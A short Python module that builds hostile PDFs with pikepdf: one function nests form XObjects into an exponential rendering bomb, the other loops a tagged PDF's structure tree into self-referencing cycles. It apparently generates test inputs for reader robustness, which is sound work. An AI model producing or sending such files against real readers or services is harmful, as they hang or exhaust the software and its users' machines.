"""PDF files that nobody should have made: small ones that keep their readers busy for days, or lead them in circles."""

from io import BytesIO

import pikepdf

WORDS = b"BT /F 12 Tf 85 700 Td (Cac phong thuc hien nghiem tuc ke hoach nay trong nam 2031.) Tj ET "


def laughing(depth: int, times: int = 10) -> bytes:
    """Return a page that draws a form, which draws another ten times, which draws another ten times …"""
    with pikepdf.new() as document:
        font = document.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1,
                                                         BaseFont=pikepdf.Name.Helvetica))  # fmt: skip
        fonts = pikepdf.Dictionary(F=font)
        inner = _form(document, WORDS, pikepdf.Dictionary(Font=fonts))
        for _ in range(depth):
            inner = _form(document, b"/X Do " * times, pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=inner)))
        page = document.add_blank_page(page_size=(595, 842))
        page.Resources = pikepdf.Dictionary(Font=fonts, XObject=pikepdf.Dictionary(X=inner))
        page.Contents = document.make_stream(WORDS + b"/X Do")
        return _saved(document)


def _form(document: pikepdf.Pdf, drawn: bytes, resources: pikepdf.Dictionary) -> pikepdf.Object:
    form = document.make_stream(drawn)
    form.Type, form.Subtype = pikepdf.Name.XObject, pikepdf.Name.Form
    form.BBox = pikepdf.Array([0, 0, 595, 842])
    form.Resources = resources
    return form


def circling(data: bytes) -> bytes:
    """Return a tagged PDF whose elements name themselves, each other and what they stand in, many times over."""
    with pikepdf.open(BytesIO(data)) as document:
        root = document.Root.StructTreeRoot
        elements = [one for one in document.objects if isinstance(one, pikepdf.Dictionary) and "/S" in one][:40]
        for element in elements:
            element.K = pikepdf.Array([*elements, *elements])
        root.K = pikepdf.Array(elements)
        return _saved(document)


def _saved(document: pikepdf.Pdf) -> bytes:
    out = BytesIO()
    document.save(out)
    return out.getvalue()
